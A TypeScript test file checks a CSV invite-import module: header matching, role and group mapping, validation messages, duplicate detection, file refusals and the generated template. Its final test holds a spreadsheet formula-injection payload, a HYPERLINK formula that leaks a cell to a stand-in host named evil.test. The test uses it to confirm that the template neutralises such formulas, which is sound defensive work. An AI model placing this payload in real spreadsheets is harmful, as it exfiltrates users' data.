/**
 * Reading an invites CSV (decisions.md#insights-and-administration §2): header names matched loosely, each row's messages from
 * `inviteBatchRowSchema` and the role/group rules, duplicates within the file, the refusals of a
 * whole file, and the template reading back as a clean file.
 */
import { format, inviteBatchMaxRows, messages, Role } from '@practica/contract';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { inviteImportText } from '../../config/invite-import-text';
import {
  duplicateLines,
  inviteTemplateCsv,
  looksLikeCsv,
  matchHeader,
  readInviteCsv,
  rowMessages,
  type ImportRow,
} from './invite-csv';

const groups = [
  { id: 7, name: 'Cohort A' },
  { id: 8, name: 'Night shift' },
];

function rowsOf(text: string): ImportRow[] {
  const read = readInviteCsv(text, groups);
  if ('error' in read) throw new Error(read.error.message);
  return read.rows;
}

describe('header matching', () => {
  it.each([
    [['First name', 'Last name', 'Email', 'Role', 'Group']],
    [['first_name', 'last_name', 'e-mail', 'ROLE', 'group_name']],
    [['Given name', 'Surname', 'Email address', ' role ', 'Group']],
    [['FirstName', 'Family-Name', 'E-Mail', 'Role', 'Cohort']],
  ])('finds every column in %j', (header) => {
    const { columns, missing } = matchHeader(header);
    expect(missing).toEqual([]);
    expect(columns).toEqual({ firstName: 0, lastName: 1, email: 2, role: 3, group: 4 });
  });

  it('keeps the order of the file and leaves unknown columns out', () => {
    const { columns, missing } = matchHeader(['Notes', 'Email', 'Role', 'Surname', 'First Name']);
    expect(missing).toEqual([]);
    expect(columns).toEqual({ email: 1, role: 2, lastName: 3, firstName: 4 });
  });

  it('names the required columns that are missing (group is optional)', () => {
    expect(matchHeader(['Name', 'Email']).missing).toEqual(['firstName', 'lastName', 'role']);
    const read = readInviteCsv('First name,Email\nAda,ada@x.test\n', groups);
    expect(read).toEqual({
      error: expect.objectContaining({
        kind: 'missingColumns',
        message: inviteImportText.missingColumns(['Last name', 'Role']),
      }),
    });
  });
});

describe('rows', () => {
  it('map role and group names ignoring case to ids, with spreadsheet row numbers', () => {
    const rows = rowsOf(
      '\uFEFFFirst name,Last name,Email,Role,Group\n' +
        'Ada,Lovelace,ada@x.test,trainee,cohort a\n' +
        '\n' +
        'Grace,Hopper,grace@x.test,INSTRUCTOR,\n' +
        'Mary,Shaw,mary@x.test,Manager,\n',
    );
    expect(rows.map((r) => [r.line, r.errors, r.body])).toEqual([
      [
        2,
        [],
        {
          firstName: 'Ada',
          lastName: 'Lovelace',
          email: 'ada@x.test',
          roleId: Role.Trainee,
          groupId: 7,
        },
      ],
      [
        4,
        [],
        {
          firstName: 'Grace',
          lastName: 'Hopper',
          email: 'grace@x.test',
          roleId: Role.Instructor,
          groupId: null,
        },
      ],
      [
        5,
        [],
        {
          firstName: 'Mary',
          lastName: 'Shaw',
          email: 'mary@x.test',
          roleId: Role.Manager,
          groupId: null,
        },
      ],
    ]);
  });

  it("carry the spec's messages, in field order", () => {
    const rows = rowsOf(
      'First name,Last name,Email,Role,Group\n' +
        ',,,Trainee,\n' +
        'Ada,Lovelace,ada@x.test,Admin,\n' +
        'Ada,Lovelace,ada@x.test,Owner,\n' +
        'Ada,Lovelace,ada@x.test,Trainee,Cohort Z\n' +
        'Ada,Lovelace,ada@x.test,Manager,Cohort A\n',
    );
    expect(rows.map((r) => r.errors)).toEqual([
      [messages.firstNameRequired, messages.lastNameRequired, messages.emailRequired],
      [messages.adminNotInvitable],
      [messages.importRoleInvalid],
      [format.importGroupUnknown('Cohort Z')],
      [messages.groupNotOfferedForRole],
    ]);
    expect(rows.every((r) => r.body === null)).toBe(true);
  });

  it('refuse an invalid email with the schema message', () => {
    const [row] = rowsOf('First name,Last name,Email,Role\nAda,Lovelace,not-an-email,Trainee\n');
    expect(row!.errors).toHaveLength(1);
    expect(row!.errors[0]).not.toBe(messages.emailRequired);
    expect(row!.body).toBeNull();
  });
});

describe('duplicates within the file', () => {
  it('mark every later occurrence of an email (ignoring case) with the first row', () => {
    const rows = rowsOf(
      'First name,Last name,Email,Role\n' +
        'Ada,Lovelace,ada@x.test,Trainee\n' +
        'Bob,Stone,bob@x.test,Trainee\n' +
        'Ada,L,ADA@x.test,Trainee\n' +
        'Ada,M,ada@x.test ,Trainee\n',
    );
    const duplicates = duplicateLines(rows);
    expect([...duplicates.entries()]).toEqual([
      [rows[2]!.key, 2],
      [rows[3]!.key, 2],
    ]);
    expect(rowMessages(rows[2]!, duplicates)).toEqual([format.importDuplicateEmail(2)]);
    expect(rowMessages(rows[0]!, duplicates)).toEqual([]);
    // Removing the first occurrence makes the next one the first.
    expect([...duplicateLines(rows.slice(1)).values()]).toEqual([4]);
  });
});

describe('whole-file refusals', () => {
  it('an empty file, a header without rows, too many rows', () => {
    expect(readInviteCsv('  \n', groups)).toEqual({
      error: { kind: 'empty', message: inviteImportText.emptyFile },
    });
    expect(readInviteCsv('First name,Last name,Email,Role\n\n', groups)).toEqual({
      error: { kind: 'noRows', message: messages.importRowsRequired },
    });
    const many = Array.from(
      { length: inviteBatchMaxRows + 1 },
      (_, i) => `A,B,a${i}@x.test,Trainee`,
    ).join('\n');
    expect(readInviteCsv(`First name,Last name,Email,Role\n${many}`, groups)).toEqual({
      error: { kind: 'tooMany', message: messages.importRowsTooMany },
    });
  });

  it('a file that is not CSV by name or type', () => {
    expect(looksLikeCsv({ name: 'people.CSV', type: '' })).toBe(true);
    expect(looksLikeCsv({ name: 'export', type: 'text/csv' })).toBe(true);
    expect(
      looksLikeCsv({
        name: 'people.xlsx',
        type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      }),
    ).toBe(false);
  });
});

describe('template', () => {
  it('has the header row and example rows that read back without errors', () => {
    const text = inviteTemplateCsv('Cohort A');
    expect(Papa.parse<string[]>(text).data[0]).toEqual([
      'First name',
      'Last name',
      'Email',
      'Role',
      'Group',
    ]);
    const rows = rowsOf(text);
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.every((r) => r.errors.length === 0)).toBe(true);
    expect(rows[0]!.body?.groupId).toBe(7);
  });

  it('neutralises a group name a spreadsheet would run as a formula, and reads it back as the group', () => {
    // A manager may name a group anything; the template puts the first group's name in a cell.
    const name = '=HYPERLINK("https://evil.test/?leak="&A2,"Open")';
    const text = inviteTemplateCsv(name);
    const cell = Papa.parse<string[]>(text).data[1]![4]!;
    expect(cell).toBe(`'${name}`);
    const rows = readInviteCsv(text, [{ id: 9, name }]);
    expect('rows' in rows && rows.rows[0]!.body?.groupId).toBe(9);
  });
});
